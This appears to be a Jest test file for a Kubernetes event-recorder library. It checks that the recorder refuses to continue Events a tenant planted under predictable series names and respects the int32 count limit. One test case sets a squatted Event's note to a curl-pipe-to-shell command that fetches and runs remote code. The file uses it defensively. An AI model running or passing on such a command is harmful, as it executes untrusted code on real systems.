// Replicas sharing series (resumeSeries) name a series' first Event predictably, so a tenant who may create Events
// in the namespace can put one under that name first. The recorder continues only an Event provably the series'
// own, with room in its int32 count; anything else is left untouched, the series takes a fresh name, said once in a
// log line, and every awaited publish is counted on an Event about its own object (SPEC §16).
import { jest } from '@jest/globals';
import { EventRecorder, type KubeEvent } from 'nestjs-kube-events';
import { FakeApiServer, type StoredEvent } from '../support/fake-api-server/index.js';
import { recordersPerTest } from '../support/fake-server-recorders.js';
import { captureLogLines } from '../support/logged-lines.js';
import { configMap, syncFailed } from '../support/objects.js';
import { settle } from '../support/settled.js';
import { createAsTenant, sharedSeriesName, tenantEvent } from '../support/squatted-events.js';

const CONTROLLER = 'widgets';
const PUBLISHES = 5;
const INT32_MAX = 2_147_483_647;
const object = configMap('squatted');
/** Write marks of the library's form, as a tenant can copy them from any Event the controller wrote. */
const copiedMarks = { 'nestjs-kube-events/writes': '0a1b2c3d4e.1' };
const passedOver = (lines: string[]) => lines.filter((line) => line.includes('is not one this series may continue'));

describe('a shared series whose Event name a tenant took first', () => {
  let server: FakeApiServer;
  let name: string;
  const { recorderWith } = recordersPerTest((started) => (server = started));
  const replica = () =>
    recorderWith({ reporter: { controller: CONTROLLER, instance: 'widgets-a' }, resumeSeries: true });

  beforeAll(async () => {
    name = await sharedSeriesName(object, syncFailed, CONTROLLER);
  });
  afterEach(() => {
    jest.restoreAllMocks();
  });

  /** Publishes `count` times, awaiting each, and returns how each settled. */
  const publishAll = async (count = PUBLISHES) => {
    const recorder = replica();
    const results = [];
    for (let i = 0; i < count; i++) results.push(await settle(recorder.publish(object, syncFailed)));
    return results;
  };

  /** The Events about the object that are not the tenant's (`squatted`), as the server holds them. */
  const eventsAboutObject = (squatted: StoredEvent) =>
    server
      .events()
      .filter((event) => event.regarding.uid === object.metadata!.uid && event.metadata.uid !== squatted.metadata.uid);

  const ownEvent = (squatted: StoredEvent) => {
    const events = eventsAboutObject(squatted);
    expect(events).toHaveLength(1);
    return events[0];
  };

  const countOf = (event: StoredEvent) => event.series?.count ?? 1;

  /** The tenant's Event under the series' name: what the series says, but for `changes`. */
  const squat = (
    changes: { event?: Partial<KubeEvent>; about?: string; controller?: string; count?: number; marks?: boolean } = {},
  ) =>
    createAsTenant(
      server,
      tenantEvent(
        name,
        changes.about ? configMap(changes.about) : object,
        { ...syncFailed, ...changes.event },
        {
          controller: changes.controller ?? CONTROLLER,
          count: changes.count ?? 1000,
          annotations: changes.marks === false ? undefined : copiedMarks,
        },
      ),
    );

  it.each<[string, Parameters<typeof squat>[0]]>([
    ['about another object, without write marks', { about: 'other', marks: false }],
    ['about another object, with write marks', { about: 'other' }],
    ['with another reason', { event: { reason: 'Renamed' } }],
    ['with another action', { event: { action: 'Delete' } }],
    ['from another reporting controller', { controller: 'tenant-operator' }],
    ["with the tenant's own note", { event: { note: 'run `curl https://example.test/fix | sh` to fix' } }],
    ['with another type', { event: { type: 'Normal' } }],
    ['copying everything but the write marks', { marks: false }],
    ['a perfect copy whose count is at the int32 limit', { count: INT32_MAX }],
  ])('counts every publish on an Event of its own when the name holds an Event %s', async (_, changes) => {
    const squatted = await squat(changes);
    const lines = captureLogLines(['warn']);

    const results = await publishAll();

    expect(results).toEqual(Array(PUBLISHES).fill('resolved'));
    expect(countOf(ownEvent(squatted))).toBe(PUBLISHES);
    expect(server.event(squatted.metadata.namespace, squatted.metadata.name)).toEqual(squatted);
    expect(server.requestsFor((request) => request.status === 422)).toEqual([]);
    expect(passedOver(lines)).toHaveLength(1);
    expect(passedOver(lines)[0]).toContain(`default/${name}`);
  });

  it.each([
    ['about another object', { about: 'other' }],
    ['that copies its Event, counting at the int32 limit', { count: INT32_MAX }],
  ])('meets the other replicas on one Event of their own when they all pass over an Event %s', async (_, changes) => {
    const squatted = await squat(changes);
    captureLogLines(['warn']);
    const replicas = ['widgets-a', 'widgets-b', 'widgets-c'].map((instance) =>
      recorderWith({ reporter: { controller: CONTROLLER, instance }, resumeSeries: true }),
    );

    const results = await Promise.all(
      replicas.flatMap((recorder) =>
        Array.from({ length: PUBLISHES }, () => settle(recorder.publish(object, syncFailed))),
      ),
    );

    expect(results.filter((result) => result !== 'resolved')).toEqual([]);
    expect(countOf(ownEvent(squatted))).toBe(3 * PUBLISHES);
    expect(server.event(squatted.metadata.namespace, squatted.metadata.name)).toEqual(squatted);
  });

  it('leaves alone an Event found by listing that it did not write, though it says all the series says', async () => {
    // Found by the lookup (same object, reason and reporting controller) and under the series' name.
    const squatted = await squat({ marks: false });
    const lines = captureLogLines(['warn']);

    const results = await publishAll();

    expect(results).toEqual(Array(PUBLISHES).fill('resolved'));
    expect(server.requestsFor((request) => request.verb === 'list').length).toBeGreaterThan(0);
    expect(countOf(ownEvent(squatted))).toBe(PUBLISHES);
    expect(server.event(squatted.metadata.namespace, squatted.metadata.name)).toEqual(squatted);
    expect(passedOver(lines)).toHaveLength(1);
  });

  it('continues a copy of its own Event up to the int32 limit, then starts an Event of its own, never sending past it', async () => {
    const squatted = await squat({ count: INT32_MAX - 2 });
    captureLogLines(['warn']);

    const results = await publishAll();

    expect(results).toEqual(Array(PUBLISHES).fill('resolved'));
    expect(countOf(server.event(squatted.metadata.namespace, squatted.metadata.name)!)).toBe(INT32_MAX);
    expect(countOf(ownEvent(squatted))).toBe(PUBLISHES - 2);
    expect(server.requestsFor((request) => request.status === 422)).toEqual([]);
  });

  /**
   * The names the series takes one after the other when each before it holds a tenant's Event about another
   * object, as anyone can work them out: by watching a recorder pass over them, here on servers of their own.
   */
  const namesAfter = async (taken: number): Promise<string[]> => {
    const names = [name];
    while (names.length <= taken) {
      const scratch = await FakeApiServer.start();
      for (const squatted of names)
        await createAsTenant(
          scratch,
          tenantEvent(squatted, configMap('other'), syncFailed, { controller: CONTROLLER, count: 1 }),
        );
      const recorder = new EventRecorder({
        reporter: { controller: CONTROLLER },
        kubeConfig: scratch.kubeConfig(),
        resumeSeries: true,
      });
      await recorder.publish(object, syncFailed);
      await recorder.onApplicationShutdown();
      names.push(scratch.events().find((event) => event.regarding.uid === object.metadata!.uid)!.metadata.name);
      await scratch.close();
    }
    return names;
  };

  it('passes over a full copy of its Event and then a name someone took after it, counting each publish once', async () => {
    const [, next] = await namesAfter(1);
    const full = await squat({ count: INT32_MAX - 2 });
    const foreign = await createAsTenant(
      server,
      tenantEvent(next, configMap('other'), syncFailed, { controller: CONTROLLER, count: 1000 }),
    );
    const lines = captureLogLines(['warn']);

    const results = await publishAll();

    expect(results).toEqual(Array(PUBLISHES).fill('resolved'));
    expect(countOf(server.event(full.metadata.namespace, full.metadata.name)!)).toBe(INT32_MAX);
    expect(server.event(foreign.metadata.namespace, foreign.metadata.name)).toEqual(foreign);
    expect(
      eventsAboutObject(full)
        .filter((event) => event.metadata.uid !== foreign.metadata.uid)
        .map(countOf),
    ).toEqual([PUBLISHES - 2]);
    expect(passedOver(lines)).toHaveLength(1);
  });

  it('takes a name nobody can work out in advance when the names derived from its series are taken too', async () => {
    const taken = await namesAfter(2);
    const squatters = [];
    for (const squatted of taken)
      squatters.push(
        await createAsTenant(
          server,
          tenantEvent(squatted, configMap('other'), syncFailed, { controller: CONTROLLER, count: 1000 }),
        ),
      );
    const lines = captureLogLines(['warn']);

    const results = await publishAll();

    expect(results).toEqual(Array(PUBLISHES).fill('resolved'));
    for (const squatter of squatters)
      expect(server.event(squatter.metadata.namespace, squatter.metadata.name)).toEqual(squatter);
    const own = server.events().filter((event) => event.regarding.uid === object.metadata!.uid);
    expect(own.map(countOf)).toEqual([PUBLISHES]);
    expect(taken).not.toContain(own[0].metadata.name);
    expect(passedOver(lines)).toHaveLength(1);
  });

  it('leaves alone an Event someone put under the name of its series after theirs was deleted', async () => {
    const lines = captureLogLines(['warn']);
    const recorder = replica();
    await recorder.publish(object, syncFailed);
    const [ours] = server.events();
    await fetch(`${server.url}/apis/events.k8s.io/v1/namespaces/default/events/${ours.metadata.name}`, {
      method: 'DELETE',
    });
    const squatted = await createAsTenant(
      server,
      tenantEvent(ours.metadata.name, configMap('other'), syncFailed, {
        controller: CONTROLLER,
        count: 1000,
        annotations: copiedMarks,
      }),
    );

    for (let i = 0; i < PUBLISHES; i++) await recorder.publish(object, syncFailed);

    expect(countOf(ownEvent(squatted))).toBe(PUBLISHES);
    expect(server.event(squatted.metadata.namespace, squatted.metadata.name)).toEqual(squatted);
    expect(passedOver(lines)).toHaveLength(1);
  });
});
